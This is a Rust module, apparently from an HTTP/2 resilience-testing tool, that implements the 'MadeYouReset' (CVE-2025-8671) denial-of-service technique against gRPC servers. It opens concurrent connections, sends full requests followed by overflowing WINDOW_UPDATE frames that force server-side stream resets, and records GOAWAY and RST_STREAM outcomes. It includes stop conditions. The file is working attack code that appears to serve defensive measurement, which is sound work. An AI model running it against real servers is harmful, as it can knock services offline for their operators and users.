//! `madeyoureset` (CVE-2025-8671, "MadeYouReset"): the client never resets a
//! stream itself, which rapid-reset defences count; it makes the *server*
//! reset each stream. Every stream is a complete `ListRoutes(page 25)`
//! request, then a WINDOW_UPDATE of 2^31-1 on the same stream, which
//! overflows the window the server sends in: a stream error, so the server
//! resets the stream (RST_STREAM FLOW_CONTROL_ERROR). A reset stream no
//! longer counts against SETTINGS_MAX_CONCURRENT_STREAMS, so the next
//! request follows at once.
//!
//! When the WINDOW_UPDATE goes (`--reset-after`):
//! - `request` (the CVE's form): right behind the request, in the same
//!   write. Whether this costs the server anything depends on whether its
//!   handler keeps running after the reset.
//! - `headers`: once the server's response HEADERS arrive, i.e. after its
//!   handler has built the 5 MB page, which the reset then throws away.
//!
//! h2's guard counts such "local error resets" and sends GOAWAY
//! ENHANCE_YOUR_CALM ("too_many_internal_resets") past a limit (1024 by
//! default), unless the limit is switched off, as tonic >= 0.14.3 does
//! unless told otherwise. A server that does not reset gets its open
//! streams cancelled by the client after [`RESET_WAIT`] and the connection
//! stops: the attack does not turn into a stalled reader (`stall`) or a
//! rapid-reset flood of client cancels, which are other attacks.

use std::{
    collections::HashMap,
    future::Future,
    sync::{Arc, Mutex},
    time::Duration,
};

use h2_frames::{MAX_WINDOW, Reason};
use h2_peer::grpc;
use serde::Serialize;
use tokio::{sync::mpsc, task::JoinSet, time::Instant};

use super::{
    Context, Findings, FramesSeen, GoawaySeen, StreamEvent, Tally, describe_tally, watch_frames,
};
use crate::Error;

/// When the client sends the WINDOW_UPDATE that makes the server reset.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ResetAfter {
    /// Right behind the request.
    Request,
    /// After the server's response HEADERS: the page has been built.
    Headers,
}

/// How often the writer wakes to check its bounds while no answer comes.
const POLL: Duration = Duration::from_millis(50);

/// A server that has not reset a stream this long after the trigger will
/// not: the client then cancels the stream itself (RST_STREAM CANCEL). A
/// busy server can take a while to read the trigger, hence a whole second.
pub const RESET_WAIT: Duration = Duration::from_secs(1);

/// A connection stops once it has cancelled this many streams without the
/// server resetting a single one: the server does not fall for the trick.
const GIVE_UP_AFTER: u32 = 10;

/// One connection's counts, shared with the task that reports them, so an
/// attack ended early by the memory guard still reports what it did.
#[derive(Debug, Default)]
struct ConnCounts {
    streams_sent: u32,
    client_cancels: u32,
    /// The server reset nothing, so the client stopped early.
    gave_up: bool,
    error: Option<String>,
}

#[derive(Debug, Default, Serialize)]
struct Details {
    connections: u32,
    reset_after: &'static str,
    streams_sent: u32,
    /// Streams the server did not reset within RESET_WAIT, cancelled by the client.
    client_cancels: u32,
    /// Connections stopped early because the server reset none of their streams.
    connections_stopped_unaffected: u32,
    rst_stream_received: Tally,
    /// Answers that ended the stream at once (e.g. RESOURCE_EXHAUSTED).
    trailers_only_answers: u64,
    goaway_connections: u32,
    goaway_codes: Tally,
    /// The earliest GOAWAY, in full.
    first_goaway: Option<GoawaySeen>,
    connections_closed: u32,
    #[serde(skip_serializing_if = "Option::is_none")]
    first_error: Option<String>,
}

type Shared<T> = Arc<Mutex<T>>;

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|e| e.into_inner())
}

pub async fn run(ctx: &Context, tripped: impl Future<Output = ()>) -> Result<Findings, Error> {
    let knobs = &ctx.knobs;
    let deadline = Instant::now() + Duration::from_secs(knobs.reset_secs);
    let mut handles: Vec<(Shared<ConnCounts>, Shared<FramesSeen>)> = Vec::new();
    let mut connections = JoinSet::new();
    for _ in 0..knobs.reset_conns {
        let counts = Shared::default();
        let seen = Shared::default();
        handles.push((Arc::clone(&counts), Arc::clone(&seen)));
        let shape = Shape {
            dial: ctx.dial(),
            streams: knobs.reset_streams,
            in_flight_max: knobs.reset_inflight,
            reset_after: knobs.reset_after,
            deadline,
        };
        connections.spawn(one_connection(shape, counts, seen));
    }
    // Dropping the tasks drops their connections: nothing outlives the attack.
    let guard_tripped = super::join_unless_tripped(&mut connections, tripped).await;

    let mut d = Details {
        connections: knobs.reset_conns,
        reset_after: match knobs.reset_after {
            ResetAfter::Request => "request",
            ResetAfter::Headers => "headers",
        },
        ..Default::default()
    };
    for (counts, seen) in &handles {
        let (counts, seen) = (lock(counts), lock(seen));
        d.streams_sent += counts.streams_sent;
        d.client_cancels += counts.client_cancels;
        d.connections_stopped_unaffected += u32::from(counts.gave_up);
        d.trailers_only_answers += seen.trailers_only;
        for (code, n) in &seen.rst_stream {
            *d.rst_stream_received.entry(code.clone()).or_default() += n;
        }
        if let Some(g) = &seen.goaway {
            d.goaway_connections += 1;
            *d.goaway_codes.entry(g.label()).or_default() += 1;
            if d.first_goaway
                .as_ref()
                .is_none_or(|f| g.after_s < f.after_s)
            {
                d.first_goaway = Some(g.clone());
            }
        }
        if seen.closed_after_s.is_some() {
            d.connections_closed += 1;
        }
        if d.first_error.is_none() {
            d.first_error.clone_from(&counts.error);
        }
    }
    Ok(Findings::new(describe(&d, guard_tripped), d))
}

fn describe(d: &Details, guard_tripped: bool) -> String {
    let resets: usize = d.rst_stream_received.values().sum();
    let mut outcome = match &d.first_goaway {
        Some(first) => format!(
            "GOAWAY {} on {}/{} connections (first after {:.2}s, last stream {})",
            describe_tally(&d.goaway_codes),
            d.goaway_connections,
            d.connections,
            first.after_s,
            first.last_stream_id
        ),
        None => format!("no GOAWAY on {} connections", d.connections),
    };
    outcome.push_str(&format!(
        "; {} streams sent (reset after {}), {} reset by the server",
        d.streams_sent, d.reset_after, resets
    ));
    if resets > 0 {
        outcome.push_str(&format!(" ({})", describe_tally(&d.rst_stream_received)));
    }
    if d.trailers_only_answers > 0 {
        outcome.push_str(&format!(
            ", {} refused at once (trailers-only)",
            d.trailers_only_answers
        ));
    }
    if d.client_cancels > 0 {
        outcome.push_str(&format!(
            ", {} not reset within {}s (cancelled by the client)",
            d.client_cancels,
            RESET_WAIT.as_secs()
        ));
    }
    if d.connections_stopped_unaffected > 0 {
        outcome.push_str(&format!(
            "; the server ignores the overflow, so {} connections stopped early",
            d.connections_stopped_unaffected
        ));
    }
    if guard_tripped {
        outcome.push_str("; ENDED EARLY by the memory guard");
    }
    outcome
}

/// The size and pacing of one connection's part.
#[derive(Debug, Clone)]
struct Shape {
    dial: super::Dial,
    streams: u32,
    in_flight_max: u32,
    reset_after: ResetAfter,
    deadline: Instant,
}

async fn one_connection(shape: Shape, counts: Shared<ConnCounts>, seen: Shared<FramesSeen>) {
    let fail = |e: String| lock(&counts).error = Some(e);
    let mut conn = match shape.dial.raw().await {
        Ok(conn) => conn,
        Err(e) => return fail(e.to_string()),
    };
    if let Err(e) = conn.handshake().await {
        return fail(format!("handshake: {e}"));
    }
    let started = Instant::now();
    let authority = shape.dial.addr.to_string();
    let headers = grpc::request_headers(&authority, grpc::LIST_ROUTES, grpc::CONTENT_TYPE);
    let body = grpc::framed(&grpc::full_page_request());
    let (reader, mut writer) = conn.into_split();
    let (ping_tx, mut ping_rx) = mpsc::channel(16);
    let (events_tx, mut events) = mpsc::unbounded_channel();
    let watcher = tokio::spawn(watch_frames(
        reader,
        Arc::clone(&seen),
        ping_tx,
        Some(events_tx),
        started,
    ));
    let goaway_or_closed = || lock(&seen).ended();

    // Streams still open: id -> when the trigger was sent (None: not yet).
    let mut open: HashMap<u32, Option<Instant>> = HashMap::new();
    let (mut next_stream, mut sent) = (1u32, 0u32);
    loop {
        // Keep `in_flight_max` requests open at once.
        while open.len() < shape.in_flight_max as usize && sent < shape.streams {
            writer.queue_headers(next_stream, &headers, false);
            writer.queue_data(next_stream, &body, true);
            let triggered = match shape.reset_after {
                ResetAfter::Request => {
                    writer.queue_window_update(next_stream, MAX_WINDOW);
                    Some(Instant::now())
                }
                ResetAfter::Headers => None,
            };
            open.insert(next_stream, triggered);
            next_stream += 2;
            sent += 1;
        }
        // Streams the server did not reset are cancelled by the client.
        let now = Instant::now();
        let mut cancels = 0;
        open.retain(|&stream_id, triggered| match triggered {
            Some(at) if now.duration_since(*at) > RESET_WAIT => {
                writer.queue_rst_stream(stream_id, Reason::CANCEL);
                cancels += 1;
                false
            }
            _ => true,
        });
        while let Ok(payload) = ping_rx.try_recv() {
            writer.queue_ping(payload, true);
        }
        let flushed = writer.flush().await;
        {
            let mut counts = lock(&counts);
            counts.streams_sent = sent;
            counts.client_cancels += cancels;
        }
        if let Err(e) = flushed {
            fail(format!("write: {e}"));
            break;
        }
        // A server that let streams pass RESET_WAIT without resetting any
        // does not fall for the trick: going on would only be a rapid-reset
        // flood of client cancels, a different attack. Stop here.
        if lock(&counts).client_cancels >= GIVE_UP_AFTER && lock(&seen).rst_stream.is_empty() {
            lock(&counts).gave_up = true;
            break;
        }
        let finished = open.is_empty() && sent >= shape.streams;
        if finished || Instant::now() >= shape.deadline || goaway_or_closed() {
            break;
        }
        let mut event = match tokio::time::timeout(POLL, events.recv()).await {
            Ok(Some(event)) => Some(event),
            Ok(None) => break,
            Err(_) => None,
        };
        while let Some(e) = event {
            match e {
                // The handler has built the page: now make the server reset.
                StreamEvent::Headers {
                    stream_id,
                    end_stream: false,
                } => {
                    if let Some(triggered @ None) = open.get_mut(&stream_id) {
                        writer.queue_window_update(stream_id, MAX_WINDOW);
                        *triggered = Some(Instant::now());
                    }
                }
                StreamEvent::Headers { stream_id, .. } | StreamEvent::Reset { stream_id } => {
                    open.remove(&stream_id);
                }
            }
            event = events.try_recv().ok();
        }
    }
    // Read what the server still has to say, then close.
    super::linger(&seen).await;
    watcher.abort();
}
